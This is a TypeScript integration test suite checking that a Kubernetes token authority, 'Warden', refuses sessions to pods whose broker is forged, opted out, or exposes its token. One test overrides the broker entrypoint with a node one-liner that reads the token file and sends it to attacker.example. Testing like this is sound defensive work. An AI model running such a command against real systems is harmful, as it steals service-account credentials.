/**
 * Only the broker Warden injects gets a session (docs/threat-model.md, "Only the injected broker
 * attests"). Against the real kube-apiserver: the real webhook admits pods in one namespace
 * (`ns`), a second namespace (`bypass`) is not sent to the webhook — standing for every way a pod
 * can reach the API server without the webhook's say (opt-out, an excluded namespace, a
 * hand-written manifest) — and the authority exchanges real pod-bound tokens through TokenReview.
 */
import type { V1Pod } from '@kubernetes/client-node';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ANNOTATION_AGENT, ANNOTATION_INJECT } from '../core/constants.js';
import { freshNamespace, kubeConfig, kubectl } from '../e2e/harness/index.js';
import { type KubeApi, KubeConfigApi } from '../kube/kube.js';
import { webhookConfiguration } from '../webhook/config.js';
import { MemoryEvents } from '../webhook/events.js';
import { type RunningWebhook, startWebhook } from '../webhook/index.js';
import { type BrokerConfig, DEFAULT_BROKER_CONFIG } from '../webhook/types.js';
import { MemoryAuditSink } from './audit.js';
import { TOKEN_TYPE_ACCESS_TOKEN } from './constants.js';
import { type Authority, createAuthority } from './index.js';
import {
  createAgentIdentity,
  createServiceAccount,
  exchangeToken,
  type Fixture,
  fixture,
  injectBroker,
  projectedToken,
} from './int-fixtures.js';

const ISSUER = 'https://warden-authority.injected.test';
const BROKER: BrokerConfig = {
  ...DEFAULT_BROKER_CONFIG,
  version: '0.1.0-int',
  image: 'ghcr.io/warden-dev/warden@sha256:1e57000000000000000000000000000000000000000000000000000000000002',
  authorityUrl: ISSUER,
};
const MWC_PATH = '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations';
const logger = pino({ level: 'silent' });

let api: KubeApi;
/** Admitted through the webhook. */
let f: Fixture;
/** Not sent to the webhook. */
let bypass: Fixture;
let webhook: RunningWebhook;
let configName: string;
let authority: Authority;
let base: string;
const audit = new MemoryAuditSink();

const agentContainer = { name: 'agent', image: 'ghcr.io/acme/agent@sha256:0000' };

/** An agent pod manifest as the app team writes it (the webhook adds the broker). */
function manifest(
  name: string,
  o: { annotations?: Record<string, string>; spec?: Partial<V1Pod['spec']> } = {},
): V1Pod {
  return {
    metadata: { name, annotations: { [ANNOTATION_AGENT]: 'support-bot', ...o.annotations } },
    spec: { serviceAccountName: 'bot-sa', containers: [agentContainer], ...o.spec },
  };
}

/** Creates the pod and exchanges its bound broker-audience token, as its broker (or a thief) would. */
async function attest(fx: Fixture, pod: V1Pod) {
  const created = await fx.core.createNamespacedPod({ namespace: fx.namespace, body: pod });
  return { pod: created, res: await exchangeToken(base, await projectedToken(fx, 'bot-sa', created)) };
}

/** A refused exchange: the OAuth error the broker logs, and the audit entry with the reason. */
function expectRefused(
  res: Awaited<ReturnType<typeof exchangeToken>>,
  reason: string,
  message: string | RegExp,
) {
  expect(res.status).toBe(400);
  expect(res.body.error).toBe('unauthorized_client');
  expect(res.body.error_description).toMatch(message);
  expect(res.body.error_description).toContain('so it gets no session');
  expect(res.text).not.toMatch(/eyJ/); // no token in the answer
  expect(audit.events.at(-1)).toMatchObject({
    decision: 'Deny',
    endpoint: '/v1/token',
    error: 'unauthorized_client',
    agent: 'support-bot',
  });
  expect(audit.events.at(-1)?.detail).toContain(reason);
}

async function waitForWebhook(): Promise<void> {
  const deadline = Date.now() + 30_000;
  let last = '';
  while (Date.now() < deadline) {
    const res = await kubectl(['create', '-n', f.namespace, '--dry-run=server', '-o', 'json', '-f', '-'], {
      input: JSON.stringify({ apiVersion: 'v1', kind: 'Pod', ...manifest(`probe-${Date.now()}`) }),
    });
    if (res.code === 0 && res.stdout.includes('"warden-broker"')) return;
    last = res.stderr || res.stdout.slice(0, 200);
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error(`webhook never took effect: ${last}`);
}

beforeAll(async () => {
  const kc = kubeConfig();
  api = new KubeConfigApi(kc);
  f = fixture(kc, await freshNamespace('injected'), ISSUER);
  bypass = fixture(kc, await freshNamespace('injected-bypass'), ISSUER);
  const wardenNs = await freshNamespace('injected-warden');
  for (const fx of [f, bypass]) {
    await createServiceAccount(fx, 'bot-sa');
    await createAgentIdentity(fx, 'support-bot', { serviceAccountName: 'bot-sa' });
  }
  authority = await createAuthority({
    trustedBrokerImages: [BROKER.image],
    kubeConfig: kc,
    namespace: wardenNs,
    issuer: ISSUER,
    audit,
    log: logger,
    rateLimit: { burst: 200, refillPerSecond: 10, maxSources: 100 },
  });
  base = `http://127.0.0.1:${await authority.listen(0, '127.0.0.1')}`;

  configName = `warden-pod-injector-${f.namespace}`;
  webhook = await startWebhook({
    api,
    namespace: wardenNs,
    configurationName: configName,
    names: { dnsNames: ['localhost'], ipAddresses: ['127.0.0.1'] },
    broker: BROKER,
    port: 0,
    host: '127.0.0.1',
    logger,
    events: new MemoryEvents(),
    // As in production (authority over TLS): the broker also gets the CA file in its volume.
    injectAuthorityCa: true,
  });
  await api.request('POST', MWC_PATH, {
    body: webhookConfiguration({
      name: configName,
      wardenNamespace: wardenNs,
      clientConfig: { url: `https://127.0.0.1:${webhook.port}/mutate` },
      namespaceMatchLabels: { 'kubernetes.io/metadata.name': f.namespace },
    }),
  });
  await webhook.store.ensure();
  await waitForWebhook();
});

afterAll(async () => {
  await api?.request('DELETE', `${MWC_PATH}/${configName}`).catch(() => {});
  await webhook?.stop();
  await authority?.close();
});

describe('the injected broker attests', () => {
  it('a pod admitted through the webhook (service-account token automounted too) gets a session', async () => {
    const { pod, res } = await attest(f, manifest('admitted'));
    // The ServiceAccount admission plugin mounted the API token into the broker as well.
    const broker = pod.spec?.initContainers?.find((c) => c.name === 'warden-broker');
    expect(broker?.volumeMounts?.map((m) => m.mountPath)).toContain(
      '/var/run/secrets/kubernetes.io/serviceaccount',
    );
    expect(JSON.stringify(pod.spec?.volumes)).toContain("metadata.annotations['warden.dev/authority-ca']");
    expect(res.status).toBe(200);
    expect(audit.events.at(-1)).toMatchObject({ decision: 'Allow', agent: 'support-bot', pod: 'admitted' });
  });
});

describe('a pod without the injected broker gets no session', () => {
  it('an opted-out pod (warden.dev/inject: "false") under the agent service account', async () => {
    const { pod, res } = await attest(
      f,
      manifest('opted-out', { annotations: { [ANNOTATION_INJECT]: 'false' } }),
    );
    expect(pod.spec?.initContainers).toBeUndefined(); // the webhook was not called
    expectRefused(
      res,
      'OptedOut',
      /metadata\.annotations\[warden\.dev\/inject\]: the pod opted out of injection/,
    );
  });

  it('a pod carrying a hand-forged injected record and no broker', async () => {
    const real = injectBroker(manifest('x'), { agent: 'support-bot', issuer: ISSUER, image: BROKER.image });
    const record = real.metadata?.annotations?.['warden.dev/injected'] ?? '';
    const { res } = await attest(
      bypass,
      manifest('forged-record', { annotations: { 'warden.dev/injected': record } }),
    );
    expectRefused(res, 'BrokerMissing', /spec\.initContainers: no "warden-broker" init container/);
  });

  it('a hand-written look-alike broker running the trusted image with its entrypoint replaced', async () => {
    const forged = injectBroker(manifest('forged-broker'), {
      agent: 'support-bot',
      issuer: ISSUER,
      image: BROKER.image,
    });
    const broker = forged.spec?.initContainers?.find((c) => c.name === 'warden-broker');
    broker!.command = [
      '/nodejs/bin/node',
      '-e',
      'require("http").get("http://attacker.example/?t="+require("fs").readFileSync(process.argv[1]))',
    ];
    const { res } = await attest(bypass, forged);
    expectRefused(
      res,
      'BrokerContainerAltered',
      /spec\.initContainers\[0\]\.command: container "warden-broker" overrides the image entrypoint/,
    );
  });

  it('a look-alike broker running another image', async () => {
    const forged = injectBroker(manifest('forged-image'), {
      agent: 'support-bot',
      issuer: ISSUER,
      image: 'docker.io/attacker/broker:1',
    });
    const { res } = await attest(bypass, forged);
    expectRefused(res, 'BrokerImageNotTrusted', /not a broker image this Warden trusts/);
  });

  it('a look-alike broker sending its token to another authority', async () => {
    const forged = injectBroker(manifest('forged-url'), {
      agent: 'support-bot',
      issuer: 'https://attacker.example',
      image: BROKER.image,
    });
    const { res } = await attest(bypass, forged);
    expectRefused(
      res,
      'BrokerContainerAltered',
      /sends its token to "https:\/\/attacker\.example", not to this authority/,
    );
  });
});

describe("a pod where something besides the broker can read the broker's token gets no session", () => {
  const ownToken = {
    name: 'stolen',
    projected: { sources: [{ serviceAccountToken: { audience: 'warden.dev/broker', path: 't' } }] },
  };

  it('is refused at admission, naming the container and the volume', async () => {
    const res = await kubectl(['create', '-n', f.namespace, '-f', '-'], {
      input: JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        ...manifest('own-token-admission', {
          spec: {
            volumes: [ownToken],
            containers: [{ ...agentContainer, volumeMounts: [{ name: 'stolen', mountPath: '/var/run/t' }] }],
          },
        }),
      }),
    });
    expect(res.code).not.toBe(0);
    expect(res.stderr).toMatch(
      /denied the request: .*spec\.containers\[0\]\.volumeMounts\[0\]: container "agent" mounts volume "stolen", which projects a service-account token for the Warden broker audience "warden\.dev\/broker"/,
    );
  });

  it('an injected pod whose agent container mounts its own broker-audience token (webhook bypassed)', async () => {
    const pod = injectBroker(
      manifest('own-token', {
        spec: {
          volumes: [ownToken],
          containers: [{ ...agentContainer, volumeMounts: [{ name: 'stolen', mountPath: '/var/run/t' }] }],
        },
      }),
      { agent: 'support-bot', issuer: ISSUER, image: BROKER.image },
    );
    const { res } = await attest(bypass, pod);
    expectRefused(res, 'BrokerAudienceToken', /container "agent" mounts volume "stolen"/);
  });

  it('an injected pod whose init container mounts the broker token volume (webhook bypassed)', async () => {
    const pod = injectBroker(manifest('init-mount'), {
      agent: 'support-bot',
      issuer: ISSUER,
      image: BROKER.image,
    });
    pod.spec?.initContainers?.push({
      name: 'setup',
      image: 'busybox',
      volumeMounts: [{ name: 'warden-broker-token', mountPath: '/t' }],
    });
    const { res } = await attest(bypass, pod);
    expectRefused(
      res,
      'TokenVolumeMounted',
      /spec\.initContainers\[1\]\.volumeMounts\[0\]: container "setup" mounts volume "warden-broker-token"/,
    );
  });

  it('an admitted pod that later gets an ephemeral container mounting the token: new exchanges and refreshes stop', async () => {
    const { pod, res } = await attest(f, manifest('debugged'));
    expect(res.status).toBe(200);
    const session = res.body.access_token as string;
    await f.core.patchNamespacedPodEphemeralcontainers({
      namespace: f.namespace,
      name: 'debugged',
      body: [
        {
          op: 'add',
          path: '/spec/ephemeralContainers',
          value: [
            {
              name: 'debug',
              image: 'busybox',
              targetContainerName: 'warden-broker',
              volumeMounts: [{ name: 'warden-broker-token', mountPath: '/t', readOnly: true }],
            },
          ],
        },
      ],
    });
    const fresh = await exchangeToken(base, await projectedToken(f, 'bot-sa', pod));
    expectRefused(
      fresh,
      'TokenVolumeMounted',
      /ephemeralContainers\[0\]\.volumeMounts\[0\]: container "debug"/,
    );
    expect(audit.events.at(-1)?.detail).toContain('EphemeralTargetsBroker');
    const refreshed = await exchangeToken(base, session, { subject_token_type: TOKEN_TYPE_ACCESS_TOKEN });
    expectRefused(refreshed, 'TokenVolumeMounted', /container "debug"/);
  });
});
